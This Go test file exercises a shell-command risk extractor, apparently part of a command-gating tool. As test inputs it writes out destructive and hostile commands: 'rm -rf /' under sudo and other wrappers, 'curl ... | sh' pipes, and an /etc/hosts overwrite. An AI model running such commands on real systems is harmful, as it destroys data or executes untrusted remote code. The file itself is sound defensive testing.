package extract

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/doeshing/cmdgate/internal/domain"
)

func newTestExtractor() *Extractor {
	return NewExtractor(nil, "/home/tester")
}

func TestExtractRecursiveForcedRootDelete(t *testing.T) {
	features := newTestExtractor().Extract("rm -rf /")

	if !features.HasTag(domain.TagFileDelete) {
		t.Fatalf("expected file_delete tag, got %+v", features.Tags())
	}
	if !features.Modifiers.Recursive || !features.Modifiers.Force {
		t.Fatalf("expected recursive+force modifiers, got %+v", features.Modifiers)
	}
	if !features.Modifiers.ProtectedPath {
		t.Fatalf("/ should be a protected target, got %+v", features)
	}
	if !features.UnboundedScope {
		t.Fatal("/ should mark scope unbounded")
	}
}

func TestExtractReadOnlyCommandCarriesNoTags(t *testing.T) {
	features := newTestExtractor().Extract("ls -la")
	if tags := features.Tags(); len(tags) != 0 {
		t.Fatalf("ls should carry no tags, got %v", tags)
	}
	if features.Modifiers != (domain.Modifiers{}) {
		t.Fatalf("ls should carry no modifiers, got %+v", features.Modifiers)
	}
}

func TestExtractFetchIntoInterpreter(t *testing.T) {
	features := newTestExtractor().Extract("curl -fsSL https://get.example.com/install.sh | sh")

	if !features.HasTag(domain.TagNetworkFetch) {
		t.Fatalf("expected network_fetch, got %v", features.Tags())
	}
	if !features.HasTag(domain.TagNetworkExec) {
		t.Fatalf("pipe into interpreter should add network_exec, got %v", features.Tags())
	}
	if !features.Modifiers.PipedToInterpreter {
		t.Fatal("expected piped_to_interpreter modifier")
	}
	for _, target := range features.Targets {
		if target == "https:/get.example.com/install.sh" || target == "https://get.example.com/install.sh" {
			t.Fatalf("URL must not be treated as a path target: %v", features.Targets)
		}
	}
}

func TestExtractFetchAloneIsNotPiped(t *testing.T) {
	features := newTestExtractor().Extract("curl -fsSL https://get.example.com/install.sh")
	if features.HasTag(domain.TagNetworkExec) {
		t.Fatalf("plain fetch must not carry network_exec, got %v", features.Tags())
	}
	if features.Modifiers.PipedToInterpreter {
		t.Fatal("plain fetch must not set piped_to_interpreter")
	}
}

func TestExtractSudoFoldsWrappedCommand(t *testing.T) {
	features := newTestExtractor().Extract("sudo rm -rf /var/log")

	if !features.HasTag(domain.TagPrivilegeEscalation) {
		t.Fatalf("expected privilege_escalation, got %v", features.Tags())
	}
	if !features.HasTag(domain.TagFileDelete) {
		t.Fatalf("wrapped rm should still tag file_delete, got %v", features.Tags())
	}
	if !features.Modifiers.ProtectedPath {
		t.Fatalf("/var/log should be protected, got %+v", features)
	}
}

func TestExtractFoldsThroughWrappers(t *testing.T) {
	cases := []struct {
		name          string
		command       string
		wantEscalated bool
	}{
		{"sudo with user option", "sudo -u root rm -rf /", true},
		{"doas with user option", "doas -u root rm -rf /", true},
		{"env wrapper", "env rm -rf /", false},
		{"env with assignment", "env LC_ALL=C rm -rf /", false},
		{"nice wrapper", "nice -n 10 rm -rf /", false},
		{"timeout wrapper", "timeout 30 rm -rf /", false},
		{"nohup wrapper", "nohup rm -rf /", false},
		{"chained wrappers", "sudo env nice rm -rf /", true},
	}
	extractor := newTestExtractor()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			features := extractor.Extract(tc.command)
			if got := features.Segments[0].Name; got != "rm" {
				t.Fatalf("effective command = %q, want rm", got)
			}
			if !features.HasTag(domain.TagFileDelete) {
				t.Fatalf("wrapped rm should tag file_delete, got %v", features.Tags())
			}
			if !features.Modifiers.Recursive || !features.Modifiers.Force {
				t.Fatalf("expected recursive+force modifiers, got %+v", features.Modifiers)
			}
			if !features.Modifiers.ProtectedPath || !features.UnboundedScope {
				t.Fatalf("/ should stay protected and unbounded, got %+v", features)
			}
			if features.HasTag(domain.TagPrivilegeEscalation) != tc.wantEscalated {
				t.Fatalf("privilege_escalation = %v, want %v", !tc.wantEscalated, tc.wantEscalated)
			}
		})
	}
}

func TestExtractSuCommandStringIsOpaque(t *testing.T) {
	features := newTestExtractor().Extract("su root -c 'rm -rf /'")
	if !features.HasTag(domain.TagPrivilegeEscalation) {
		t.Fatalf("su should tag privilege_escalation, got %v", features.Tags())
	}
	if !features.HasTag(domain.TagUnparsable) {
		t.Fatalf("a quoted -c payload defeats static analysis, got %v", features.Tags())
	}
}

func TestExtractRedirectToProtectedPath(t *testing.T) {
	features := newTestExtractor().Extract("echo 127.0.0.1 evil.example > /etc/hosts")

	if !features.HasTag(domain.TagFileWrite) {
		t.Fatalf("redirect should tag file_write, got %v", features.Tags())
	}
	if !features.Modifiers.Overwrite {
		t.Fatal("truncating redirect should set overwrite")
	}
	if !features.Modifiers.ProtectedPath {
		t.Fatalf("/etc/hosts should be protected, got %+v", features)
	}
}

func TestExtractHomeExpansion(t *testing.T) {
	features := newTestExtractor().Extract("rm -r ~/projects")
	want := "/home/tester/projects"
	found := false
	for _, target := range features.Targets {
		if target == want {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected %s in targets, got %v", want, features.Targets)
	}
	if features.Modifiers.ProtectedPath {
		t.Fatalf("a home subdirectory is not the bare home, got %+v", features)
	}
}

func TestExtractUnparsableInput(t *testing.T) {
	features := newTestExtractor().Extract(`echo "unterminated`)
	if !features.HasTag(domain.TagUnparsable) {
		t.Fatalf("malformed input should tag unparsable, got %+v", features)
	}
	if !features.OnlyUnrecognized() {
		t.Fatalf("malformed input should carry nothing but unparsable, got %+v", features)
	}
}

func TestExtractCommandSubstitutionIsOpaque(t *testing.T) {
	features := newTestExtractor().Extract("rm $(find_targets)")
	if !features.HasTag(domain.TagUnparsable) {
		t.Fatalf("command substitution should tag unparsable, got %v", features.Tags())
	}
	if features.OnlyUnrecognized() {
		t.Fatal("rm with substitution still carries file_delete")
	}
}

func TestExtractIsDeterministic(t *testing.T) {
	extractor := newTestExtractor()
	command := "sudo rm -rf /tmp/build && curl https://x.test | bash"
	first := extractor.Extract(command)
	second := extractor.Extract(command)
	if diff := cmp.Diff(first, second); diff != "" {
		t.Fatalf("extraction is not deterministic (-first +second):\n%s", diff)
	}
}

func TestExtractChainSplitsSegments(t *testing.T) {
	features := newTestExtractor().Extract("mkdir -p build && rm -r build/old")
	if len(features.Segments) != 2 {
		t.Fatalf("expected 2 segments, got %d: %+v", len(features.Segments), features.Segments)
	}
	if !features.HasTag(domain.TagFileDelete) {
		t.Fatalf("second segment should tag file_delete, got %v", features.Tags())
	}
}

func TestExtractEmptyCommand(t *testing.T) {
	features := newTestExtractor().Extract("   ")
	if len(features.Segments) != 0 {
		t.Fatalf("blank input should yield no segments, got %+v", features.Segments)
	}
}
